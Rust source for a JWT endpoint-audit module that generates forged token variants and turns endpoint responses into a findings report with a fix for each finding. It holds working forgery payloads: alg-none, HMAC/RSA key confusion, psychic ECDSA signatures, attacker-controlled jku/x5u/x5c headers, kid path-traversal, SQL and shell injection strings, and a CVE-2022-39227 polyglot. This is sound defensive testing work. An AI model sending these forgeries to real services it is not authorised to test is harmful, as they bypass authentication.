//! `audit endpoint`: forged variants of a valid token, in the spirit of the well-known JWT attack playbooks, and
//! the verdict on how an endpoint answered them. Sending is the caller's job (this crate does no I/O): it sends
//! each probe's token and reports whether the endpoint accepted it.

use aws_lc_rs::encoding::AsDer as _;
use aws_lc_rs::hmac;
use aws_lc_rs::rand::SystemRandom;
use aws_lc_rs::signature::{EcdsaKeyPair, KeyPair as _, ECDSA_P256_SHA256_FIXED_SIGNING};
use base64::Engine as _;
use serde_json::{json, Map, Value};
use tessera_jose::{base64url, Jwk};

use crate::{AuditError, Finding, Report, Severity};

/// One forged token and what its acceptance would mean.
#[derive(Debug, Clone)]
pub struct Probe {
    /// Finding id if accepted.
    pub id: &'static str,
    /// What the variant is.
    pub name: String,
    /// Severity if accepted.
    pub severity: Severity,
    /// The token to send.
    pub token: String,
    /// The fix if accepted.
    pub fix: &'static str,
}

/// How the endpoint answered one request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Answer {
    /// A 2xx status: accepted.
    Accepted(u16),
    /// Any other status: refused.
    Refused(u16),
    /// No usable answer (timeout, connection error, ...).
    Failed(String),
}

/// The attacker's own key and the loopback URLs where the caller serves it (for `jku` and `x5u`).
pub struct Attacker {
    key: EcdsaKeyPair,
    /// The key's id in the attacker JWKS.
    pub kid: String,
    /// The attacker JWKS document to serve at `jwks_url`.
    pub jwks: String,
    /// A self-signed certificate (PEM) of the attacker key, to serve at `cert_url`.
    pub cert_pem: String,
    cert_der: Vec<u8>,
}

impl std::fmt::Debug for Attacker {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Attacker").field("kid", &self.kid).finish_non_exhaustive()
    }
}

impl Attacker {
    /// A fresh attacker key (P-256) with its JWKS and a self-signed certificate.
    ///
    /// # Errors
    /// When key or certificate generation fails.
    pub fn new() -> Result<Self, AuditError> {
        let failed = |what: &str| AuditError::Probe(format!("cannot create the attacker {what}"));
        let rc_key = rcgen::KeyPair::generate_for(&rcgen::PKCS_ECDSA_P256_SHA256).map_err(|_| failed("key"))?;
        let key = EcdsaKeyPair::from_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, &rc_key.serialize_der())
            .map_err(|_| failed("key"))?;
        let cert = rcgen::CertificateParams::new(vec!["attacker.invalid".to_owned()])
            .and_then(|params| params.self_signed(&rc_key))
            .map_err(|_| failed("certificate"))?;
        let point = key.public_key().as_ref();
        let (x, y) = (point.get(1..33).unwrap_or_default(), point.get(33..65).unwrap_or_default());
        let kid = "tessera-audit-attacker".to_owned();
        let jwk = json!({"kty": "EC", "crv": "P-256", "x": base64url::encode(x), "y": base64url::encode(y), "kid": kid, "alg": "ES256", "use": "sig"});
        Ok(Self {
            key,
            kid,
            jwks: json!({"keys": [jwk.clone()]}).to_string(),
            cert_pem: cert.pem(),
            cert_der: cert.der().to_vec(),
        })
    }

    fn public_jwk(&self) -> Value {
        serde_json::from_str::<Value>(&self.jwks).ok().and_then(|v| v.get("keys")?.get(0).cloned()).unwrap_or_default()
    }

    #[allow(clippy::disallowed_methods, reason = "an ECDSA signature's nonce comes from the OS CSPRNG")]
    fn sign(&self, header: &Value, payload_b64: &str) -> String {
        let input = format!("{}.{payload_b64}", base64url::encode(header.to_string()));
        let signature = self
            .key
            .sign(&SystemRandom::new(), input.as_bytes())
            .map(|s| base64url::encode(s.as_ref()))
            .unwrap_or_default();
        format!("{input}.{signature}")
    }
}

struct Parts {
    header_b64: String,
    payload_b64: String,
    signature_b64: String,
    header: Map<String, Value>,
    claims: Option<Map<String, Value>>,
}

fn split(token: &str) -> Result<Parts, AuditError> {
    let mut pieces = token.trim().split('.');
    let (Some(h), Some(p), Some(s), None) = (pieces.next(), pieces.next(), pieces.next(), pieces.next()) else {
        return Err(AuditError::NotAJwt("the valid token must be a compact JWS of 3 parts".into()));
    };
    let header = base64url::decode(h)
        .and_then(|bytes| serde_json::from_slice(&bytes).ok())
        .ok_or_else(|| AuditError::NotAJwt("the valid token's header is not base64url JSON".into()))?;
    let claims = base64url::decode(p).and_then(|bytes| serde_json::from_slice(&bytes).ok());
    Ok(Parts { header_b64: h.into(), payload_b64: p.into(), signature_b64: s.into(), header, claims })
}

fn hs256(header: &Value, payload_b64: &str, key: &[u8]) -> String {
    let input = format!("{}.{payload_b64}", base64url::encode(header.to_string()));
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, key), input.as_bytes());
    format!("{input}.{}", base64url::encode(tag.as_ref()))
}

fn with(header: &Map<String, Value>, changes: &[(&str, Value)], remove: &[&str]) -> Value {
    let mut h = header.clone();
    for name in remove {
        h.remove(*name);
    }
    for (name, value) in changes {
        h.insert((*name).to_owned(), value.clone());
    }
    Value::Object(h)
}

fn pem(label: &str, der: &[u8]) -> String {
    let body = base64::engine::general_purpose::STANDARD.encode(der);
    let lines: Vec<&str> = body.as_bytes().chunks(64).filter_map(|c| std::str::from_utf8(c).ok()).collect();
    format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n"))
}

/// The public key of a JWK in every encoding an HS/RS confusion attack tries as the HMAC secret.
fn key_encodings(jwk: &Jwk) -> Vec<(&'static str, Vec<u8>)> {
    let mut out = Vec::new();
    let bytes = |v: &Option<String>| v.as_deref().and_then(base64url::decode);
    if let (Some(n), Some(e)) = (bytes(&jwk.n), bytes(&jwk.e)) {
        let public = aws_lc_rs::rsa::PublicKeyComponents { n: n.as_slice(), e: e.as_slice() };
        if let Ok(spki) = public.as_der() {
            let spki = spki.as_ref().to_vec();
            let pkcs1 = spki.get(24..).unwrap_or_default().to_vec();
            let spki_pem = pem("PUBLIC KEY", &spki);
            out.push(("SPKI PEM with trailing newline", spki_pem.clone().into_bytes()));
            out.push(("SPKI PEM without trailing newline", spki_pem.trim_end().as_bytes().to_vec()));
            out.push(("PKCS#1 PEM", pem("RSA PUBLIC KEY", &pkcs1).into_bytes()));
            out.push(("SPKI DER", spki));
        }
    }
    if let Ok(json) = serde_json::to_vec(&jwk.to_public()) {
        out.push(("JWK JSON", json));
    }
    out
}

/// Every forged variant of `valid`. `keys` is the target's public JWKS (for the confusion probes), `jku_url` and
/// `x5u_url` are where the caller serves `attacker.jwks` and `attacker.cert_pem` on loopback.
///
/// # Errors
/// [`AuditError::NotAJwt`] when `valid` is not a compact JWS.
pub fn forge(
    valid: &str,
    keys: &[Jwk],
    attacker: &Attacker,
    jku_url: &str,
    x5u_url: &str,
) -> Result<Vec<Probe>, AuditError> {
    const NONE_FIX: &str =
        "Refuse alg none in any casing: bind each key to exactly one algorithm and look keys up by kid only.";
    const SIG_FIX: &str =
        "Verify the signature of every token, with the key's own algorithm, before reading any claim.";
    const HEADER_KEY_FIX: &str =
        "Take keys only from your own trusted key set; never from jwk, jku, x5u or x5c headers.";
    const KID_FIX: &str = "Use kid only as an exact key-set lookup key; never as a path, query or command.";
    const CONFUSION_FIX: &str =
        "Bind every key to one algorithm; an RSA/EC public key must never be usable as an HMAC secret.";
    const STRICT_FIX: &str =
        "Parse only the compact serialization with strict unpadded base64url, and refuse everything else.";
    let t = split(valid)?;
    let alg = t.header.get("alg").and_then(Value::as_str).unwrap_or_default().to_owned();
    let p = &t.payload_b64;
    let sig = &t.signature_b64;
    let mut probes = Vec::new();
    let mut add =
        |id, name: String, severity, token: String, fix| probes.push(Probe { id, name, severity, token, fix });

    for casing in ["none", "None", "NONE", "nOnE"] {
        let h = base64url::encode(with(&t.header, &[("alg", json!(casing))], &[]).to_string());
        add(
            "ENDPOINT-ALG-NONE",
            format!("alg {casing:?}, empty signature"),
            Severity::Critical,
            format!("{h}.{p}."),
            NONE_FIX,
        );
        add(
            "ENDPOINT-ALG-NONE",
            format!("alg {casing:?}, original signature"),
            Severity::Critical,
            format!("{h}.{p}.{sig}"),
            NONE_FIX,
        );
    }
    let sig_len = base64url::decode(sig).map_or(64, |s| s.len());
    add(
        "ENDPOINT-NO-SIGNATURE-CHECK",
        "signature stripped".into(),
        Severity::Critical,
        format!("{}.{p}.", t.header_b64),
        SIG_FIX,
    );
    add(
        "ENDPOINT-NO-SIGNATURE-CHECK",
        "all-zero signature".into(),
        Severity::Critical,
        format!("{}.{p}.{}", t.header_b64, base64url::encode(vec![0u8; sig_len])),
        SIG_FIX,
    );
    let hs = with(&t.header, &[("alg", json!("HS256"))], &[]);
    add(
        "ENDPOINT-HMAC-EMPTY-KEY",
        "HS256 with an empty key".into(),
        Severity::Critical,
        hs256(&hs, p, b""),
        CONFUSION_FIX,
    );
    for jwk in keys {
        let mut h = hs.as_object().cloned().unwrap_or_default();
        if let Some(key_id) = &jwk.kid {
            h.insert("kid".into(), json!(key_id));
        }
        for (encoding, secret) in key_encodings(jwk) {
            add(
                "ENDPOINT-ALG-CONFUSION",
                format!("HS256 keyed with public key {:?} as {encoding}", jwk.kid.as_deref().unwrap_or("?")),
                Severity::Critical,
                hs256(&Value::Object(h.clone()), p, &secret),
                CONFUSION_FIX,
            );
        }
    }
    let es = base64url::encode(with(&t.header, &[("alg", json!("ES256"))], &[]).to_string());
    add(
        "ENDPOINT-PSYCHIC-SIGNATURE",
        "ES256 psychic signature r=s=0 (raw)".into(),
        Severity::Critical,
        format!("{es}.{p}.{}", base64url::encode([0u8; 64])),
        SIG_FIX,
    );
    add(
        "ENDPOINT-PSYCHIC-SIGNATURE",
        "ES256 psychic signature r=s=0 (DER)".into(),
        Severity::Critical,
        format!("{es}.{p}.MAYCAQACAQA"),
        SIG_FIX,
    );

    let es_header = |extra: &[(&str, Value)]| {
        let mut changes = vec![("alg", json!("ES256")), ("kid", json!(attacker.kid))];
        changes.extend(extra.iter().cloned());
        with(&t.header, &changes, &[])
    };
    add(
        "ENDPOINT-HEADER-JWK",
        "jwk header with the attacker's key".into(),
        Severity::Critical,
        attacker.sign(&es_header(&[("jwk", attacker.public_jwk())]), p),
        HEADER_KEY_FIX,
    );
    add(
        "ENDPOINT-HEADER-JKU",
        "jku header pointing at the attacker's JWKS".into(),
        Severity::Critical,
        attacker.sign(&es_header(&[("jku", json!(jku_url))]), p),
        HEADER_KEY_FIX,
    );
    add(
        "ENDPOINT-HEADER-X5U",
        "x5u header pointing at the attacker's certificate".into(),
        Severity::Critical,
        attacker.sign(&es_header(&[("x5u", json!(x5u_url))]), p),
        HEADER_KEY_FIX,
    );
    let x5c = base64::engine::general_purpose::STANDARD.encode(&attacker.cert_der);
    add(
        "ENDPOINT-HEADER-X5C",
        "x5c header with a self-signed certificate".into(),
        Severity::Critical,
        attacker.sign(&es_header(&[("x5c", json!([x5c]))]), p),
        HEADER_KEY_FIX,
    );

    for (kid_value, key, what) in [
        ("../../../../../../../../dev/null", &b""[..], "path traversal to /dev/null, empty key"),
        ("/dev/null", b"\0", "/dev/null with a NUL-byte key"),
        ("x' UNION SELECT '1';--", b"1", "SQL injection selecting the key '1'"),
        ("|sleep 10", b"", "shell metacharacters"),
    ] {
        add(
            "ENDPOINT-KID-INJECTION",
            format!("kid {what}"),
            Severity::Critical,
            hs256(&with(&t.header, &[("alg", json!("HS256")), ("kid", json!(kid_value))], &[]), p, key),
            KID_FIX,
        );
    }

    if let Some(claims) = &t.claims {
        let mut tampered = claims.clone();
        let sub = tampered.get("sub").and_then(Value::as_str).unwrap_or("user").to_owned();
        tampered.insert("sub".into(), json!(format!("{sub}-admin")));
        tampered.insert("exp".into(), json!(4_102_444_800_i64));
        add(
            "ENDPOINT-NO-SIGNATURE-CHECK",
            "claims tampered under the original signature".into(),
            Severity::Critical,
            format!("{}.{}.{sig}", t.header_b64, base64url::encode(Value::Object(tampered).to_string())),
            SIG_FIX,
        );
    }
    let switched = match alg.as_str() {
        "RS256" => "PS256",
        "ES256" => "ES384",
        "EdDSA" => "Ed25519",
        _ => "RS256",
    };
    let switched_header = base64url::encode(with(&t.header, &[("alg", json!(switched))], &[]).to_string());
    add(
        "ENDPOINT-ALG-SWITCH",
        format!("alg {alg}→{switched} under the original signature"),
        Severity::High,
        format!("{switched_header}.{p}.{sig}"),
        CONFUSION_FIX,
    );

    let flattened = json!({"protected": t.header_b64, "payload": p, "signature": sig}).to_string();
    add(
        "ENDPOINT-JSON-SERIALIZATION",
        "flattened JWS JSON serialization".into(),
        Severity::Medium,
        flattened,
        STRICT_FIX,
    );
    let general = json!({"payload": p, "signatures": [{"protected": t.header_b64, "signature": sig}]}).to_string();
    add("ENDPOINT-JSON-SERIALIZATION", "general JWS JSON serialization".into(), Severity::Medium, general, STRICT_FIX);
    if let Some(claims) = &t.claims {
        let mut forged = claims.clone();
        forged.insert("sub".into(), json!("polyglot-admin"));
        let polyglot = format!(
            r#"{{"{}.{}.":"","protected":"{}","payload":"{p}","signature":"{sig}"}}"#,
            t.header_b64,
            base64url::encode(Value::Object(forged).to_string()),
            t.header_b64
        );
        add(
            "ENDPOINT-POLYGLOT",
            "compact/JSON polyglot (CVE-2022-39227)".into(),
            Severity::Critical,
            polyglot,
            STRICT_FIX,
        );
    }
    add(
        "ENDPOINT-MALLEABLE-BASE64",
        "padding added to every segment".into(),
        Severity::Low,
        format!("{}==.{p}==.{sig}==", t.header_b64),
        STRICT_FIX,
    );
    let standard = format!("{}.{p}.{}", t.header_b64, sig.replace('-', "+").replace('_', "/"));
    if standard != valid {
        add(
            "ENDPOINT-MALLEABLE-BASE64",
            "standard base64 alphabet in the signature".into(),
            Severity::Low,
            standard,
            STRICT_FIX,
        );
    }
    add(
        "ENDPOINT-OVERSIZED",
        "64 KiB token".into(),
        Severity::Low,
        format!("{}.{}.{sig}", t.header_b64, "A".repeat(64 * 1024)),
        "Refuse tokens over a size limit (a few KiB) before parsing.",
    );
    Ok(probes)
}

/// The baseline answers that let acceptance be told from rejection.
#[derive(Debug, Clone)]
pub struct Baseline {
    /// The valid token.
    pub valid: Answer,
    /// No token at all.
    pub missing: Answer,
    /// The valid token with its signature broken.
    pub broken: Answer,
}

/// The valid token with one signature byte changed.
#[must_use]
pub fn broken_signature(valid: &str) -> String {
    match valid.rsplit_once('.') {
        Some((input, sig)) => {
            let mut bytes = base64url::decode(sig).unwrap_or_else(|| vec![0; 32]);
            if let Some(first) = bytes.first_mut() {
                *first ^= 0x55;
            }
            format!("{input}.{}", base64url::encode(bytes))
        }
        None => valid.to_owned(),
    }
}

/// Builds the report: every accepted forgery is a finding; failures are listed as not tested.
#[must_use]
pub fn verdict(
    target: &str,
    baseline: &Baseline,
    probes: &[(Probe, Answer)],
    must_refuse: &[(String, Answer)],
    fetched: &[&str],
) -> Report {
    let mut report = Report::new("endpoint", target);
    let usable = matches!(baseline.valid, Answer::Accepted(_))
        && matches!(baseline.missing, Answer::Refused(_))
        && matches!(baseline.broken, Answer::Refused(_));
    report.stats.insert(
        "baseline".into(),
        format!("valid {:?}, no token {:?}, broken signature {:?}", baseline.valid, baseline.missing, baseline.broken)
            .into(),
    );
    if !usable {
        if matches!(baseline.broken, Answer::Accepted(_)) && matches!(baseline.valid, Answer::Accepted(_)) {
            report.add(Finding::new(
                "ENDPOINT-NO-SIGNATURE-CHECK",
                Severity::Critical,
                "A token with a broken signature is accepted",
                "the baseline's broken-signature token got a 2xx",
                "Verify the signature of every token before reading any claim.",
            ));
        }
        report.not_tested.push("every forged variant: the endpoint must accept the valid token and refuse a missing one, or acceptance cannot be told from rejection".into());
        report.finish();
        return report;
    }
    report.stats.insert("probes_sent".into(), probes.len().into());
    for (probe, answer) in probes {
        match answer {
            Answer::Accepted(status) => report.add(Finding::new(
                probe.id,
                probe.severity,
                format!("Endpoint accepts a forged token: {}", probe.name),
                format!("HTTP {status}"),
                probe.fix,
            )),
            Answer::Refused(_) => {}
            Answer::Failed(why) => report.not_tested.push(format!("{}: {why}", probe.name)),
        }
    }
    for (index, (_, answer)) in must_refuse.iter().enumerate() {
        match answer {
            Answer::Accepted(status) => report.add(Finding::new(
                "ENDPOINT-ACCEPTS-REJECTED",
                Severity::High,
                format!("Endpoint accepts --reject token #{}", index + 1),
                format!("HTTP {status} for a token that must be refused (expired, wrong audience or issuer, revoked, refresh-as-access)"),
                "Check exp/nbf, iss, aud, the token type and revocation on every request.",
            )),
            Answer::Refused(_) => {}
            Answer::Failed(why) => report.not_tested.push(format!("--reject token #{}: {why}", index + 1)),
        }
    }
    for url in fetched {
        report.add(Finding::new("ENDPOINT-FETCHES-HEADER-URL", Severity::High, "Endpoint fetched a URL named in a token header", format!("it requested {url}"), "Never dereference jku or x5u from a token: it is server-side request forgery even when the key is then refused."));
    }
    // One finding per id: the variants that got through are listed in its evidence.
    let mut merged: Vec<Finding> = Vec::new();
    for finding in std::mem::take(&mut report.findings) {
        match merged.iter_mut().find(|f| f.id == finding.id) {
            Some(existing) => {
                existing.evidence = format!(
                    "{}; {}",
                    existing.evidence,
                    finding.title.trim_start_matches("Endpoint accepts a forged token: ")
                )
            }
            None => merged.push(Finding {
                evidence: format!(
                    "{}: {}",
                    finding.evidence,
                    finding.title.trim_start_matches("Endpoint accepts a forged token: ")
                ),
                ..finding
            }),
        }
    }
    report.findings = merged;
    report.finish();
    report
}
